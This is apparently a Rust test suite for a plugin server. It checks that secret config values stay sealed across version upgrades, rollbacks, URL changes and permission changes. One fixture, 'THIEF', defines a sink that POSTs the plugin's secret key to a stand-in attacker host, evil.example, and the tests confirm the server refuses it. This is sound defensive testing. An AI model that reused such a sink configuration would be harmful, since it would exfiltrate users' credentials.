//! What plugins are told in confidence stays so: whatever version comes, and whoever configures it.

use super::*;
use crate::world::statement;

const SECRET: &str = r#"
[config]
type = "object"
[config.properties.key]
type = "string"
format = "secret"
[config.properties.url]
type = "string"
default = "https://a.example/x"

[[capabilities.http]]
host = "{config.url}"
methods = ["POST"]
private = true

[[sink]]
name = "chat"
form = "chat"
on = ["TokenLeaked"]
url = "{config.url}"
authorization = "Bearer {config.key}"
text = "{event.kind}"
body = '{ "content": "{text}" }'
"#;
const PLAIN: &str = "[config]\ntype = \"object\"\n[config.properties.key]\ntype = \"string\"\n";
const POWER: &str =
    "[[capabilities.admin]]\ntype = \"iam\"\nactions = [\"CanManageIAM\"]\nresources = [\"iam/*\"]\n";

/// Makes it another version.
fn upgrade(by: &Client, name: &str, version: &str, more: &str) -> Answer {
    let (bytes, hash) = bundle(name, version, more);
    by.upload("PUT", &format!("/plugins/{name}/bundle?sha256={hash}"), &bytes)
}

/// Nothing that was answered or written has it.
fn is_nowhere(world: &mut World, secret: &str) {
    assert!(!world.owner.client.heard.text().contains(secret), "it was told");
    assert!(!String::from_utf8_lossy(&world.server.leavings()).contains(secret), "it was written");
}

#[test]
fn a_secret_does_not_become_a_plain_text_with_another_version() {
    let mut world = World::new();
    let ann = world.owner.client.clone();
    let name = enable(&ann, SECRET, &json!({ "key": "only-sealed-0451" }));
    let shown = |name: &str| ann.get(&format!("/plugins/{name}")).data()["config"]["key"].clone();
    let answer = upgrade(&ann, &name, "1.1.0", PLAIN);
    answer.refused(400, "config_is_invalid");
    assert!(answer.body.contains("config.key was a secret"), "{}", answer.body);
    ann.touch(&format!("/plugins/{name}/disable")).data();
    upgrade(&ann, &name, "1.1.0", PLAIN).data();
    assert_eq!(shown(&name), Value::Null);
    // And back: it is gone, since the version between could not keep it.
    ann.call("POST", &format!("/plugins/{name}/roll-back"), None).data();
    assert_eq!(shown(&name), Value::Null);
    is_nowhere(&mut world, "only-sealed-0451");
}

#[test]
fn a_secret_that_stays_is_sent_nowhere_else() {
    let mut world = World::new();
    let ann = world.owner.client.clone();
    let name = enable(&ann, SECRET, &json!({ "key": "stays-0451" }));
    let tell = |config: Value| ann.put(&format!("/plugins/{name}/config"), &json!({ "config": config }));
    tell(json!({ "key": "secret:key", "url": "https://a.example/y" })).data();
    for elsewhere in
        ["https://b.example/x", "https://a.example:8443/x", "http://a.example/x", "https://a.example.evil/x"]
    {
        let answer = tell(json!({ "key": "secret:key", "url": elsewhere }));
        answer.refused(400, "config_is_invalid");
        assert!(answer.body.contains("config.key has to be typed again"), "{}", answer.body);
    }
    tell(json!({ "key": "typed-anew-0451", "url": "https://b.example/x" })).data();
    tell(json!({ "key": "secret:key", "url": "https://b.example/z" })).data();
    tell(json!({ "url": "https://c.example/" })).data();
    ann.put(&format!("/plugins/{name}/config"), &json!({ "url": "https://d.example/" }))
        .refused(400, "config_is_required");
    is_nowhere(&mut world, "stays-0451");
    is_nowhere(&mut world, "typed-anew-0451");
}

/// A second sink to where its configuration says, if nothing is said to the attacker, with the secret.
const THIEF: &str = r#"
[config.properties.evil]
type = "string"
default = "https://evil.example/x"

[[capabilities.http]]
host = "{config.evil}"
methods = ["POST"]

[[sink]]
name = "thief"
form = "chat"
on = ["*"]
url = "{config.evil}"
authorization = "{config.key}"
text = "{event.kind}"
body = '{ "content": "{text}" }'
"#;

#[test]
fn whoever_puts_another_version_there_learns_no_secret_by_it() {
    let mut world = World::new();
    let ann = world.owner.client.clone();
    let carl = world.member_who(&[statement("plugin", "allow", &["ManagePlugins"], "plugin/*")]).client;
    let unset = SECRET.replace("default = \"https://a.example/x\"\n", "");
    let name = enable(&ann, &unset, &json!({ "key": "not-carls-0451" }));
    let shown = |of: &str| ann.get(&format!("/plugins/{name}")).data()["config"][of].clone();
    let put = |version: &str, more: &str| {
        let (bytes, hash) = bundle(&name, version, more);
        carl.upload("PUT", &format!("/plugins/{name}/bundle?sha256={hash}&consent={hash}"), &bytes)
    };
    // A host that nobody has set, by default; and another host.
    let moved = SECRET.replace("a.example", "evil.example");
    let more = format!("{unset}{THIEF}");
    for bundle in [&moved, &more] {
        let answer = put("1.1.0", bundle);
        assert!(answer.body.contains("config.key has to be typed again"), "{}", answer.body);
        assert_eq!(shown("key"), "secret:key");
    }
    // Of one that does not act, the secret goes, and no way back brings it.
    carl.touch(&format!("/plugins/{name}/disable")).data();
    put("1.1.0", &more).data();
    assert_eq!(shown("key"), Value::Null);
    carl.call("POST", &format!("/plugins/{name}/roll-back"), None).data();
    assert_eq!(shown("key"), Value::Null);
    is_nowhere(&mut world, "not-carls-0451");
}

#[test]
fn a_secret_stays_where_another_version_sends_it_to_nobody_else() {
    let world = World::new();
    let ann = &world.owner.client;
    let name = enable(ann, SECRET, &json!({ "key": "stays-here-0451" }));
    upgrade(ann, &name, "1.1.0", &SECRET.replace("TokenLeaked", "TokenLeaked\", \"TokenSecretReused"))
        .refused(422, "ConsentIsRequired");
    upgrade(ann, &name, "1.1.0", &SECRET.replace("Bearer ", "Splunk ")).data();
    assert_eq!(ann.get(&format!("/plugins/{name}")).data()["config"]["key"], "secret:key");
    ann.call("POST", &format!("/plugins/{name}/roll-back"), None).data();
    assert_eq!(ann.get(&format!("/plugins/{name}")).data()["config"]["key"], "secret:key");
}

#[test]
fn to_send_a_secret_elsewhere_takes_consent() {
    let world = World::new();
    let ann = &world.owner.client;
    let silent = SECRET.replace("authorization = \"Bearer {config.key}\"\n", "");
    let name = enable(ann, &silent, &json!({ "key": "told-later-0451" }));
    ann.touch(&format!("/plugins/{name}/disable")).data();
    upgrade(ann, &name, "1.1.0", SECRET).data();
    let answer = ann.touch(&format!("/plugins/{name}/enable"));
    answer.refused(422, "ConsentIsRequired");
    assert!(answer.body.contains("send the secret `key` to {config.url}"), "{}", answer.body);
}

#[test]
fn who_may_not_let_a_plugin_do_something_does_not_carry_the_grant_to_other_bytes() {
    let world = World::new();
    let ann = &world.owner.client;
    let name = enable(ann, POWER, &json!({}));
    let cat = world.member_who(&[statement("plugin", "allow", &["ManagePlugins"], "plugin/*")]).client;
    upgrade(&cat, &name, "1.1.0", POWER).exceeds();
    ann.touch(&format!("/plugins/{name}/disable")).data();
    upgrade(&cat, &name, "1.1.0", POWER).data();
    // What is granted now is what somebody looks at who has it.
    ann.touch(&format!("/plugins/{name}/enable")).refused(422, "ConsentIsRequired");
    let (_, hash) = bundle(&name, "1.1.0", POWER);
    ann.put(&format!("/plugins/{name}/enable"), &json!({ "consent": hash })).data();
    // Whoever has it carries it on.
    upgrade(ann, &name, "1.2.0", POWER).data();
}

#[test]
fn what_a_plugin_hears_judges_and_answers_is_looked_at_and_granted() {
    let world = World::new();
    let ann = &world.owner.client;
    let sink = |on: &str| format!("[[sink]]\nname = \"file\"\nform = \"file\"\non = [\"{on}\"]\n");
    let name = enable(ann, &sink("TokenLeaked"), &json!({}));
    let answer = upgrade(ann, &name, "1.1.0", &sink("*"));
    answer.refused(422, "ConsentIsRequired");
    assert!(answer.body.contains("hear of *"), "{}", answer.body);
    let (bytes, hash) = bundle(&name, "1.1.0", &sink("*"));
    assert_eq!(ann.upload("POST", "/plugin-reviews", &bytes).data()["newCapabilities"], json!(["hear of *"]));
    ann.upload("PUT", &format!("/plugins/{name}/bundle?sha256={hash}&consent={hash}"), &bytes).data();
    upgrade(ann, &name, "1.2.0", &sink("Token*")).data();
}
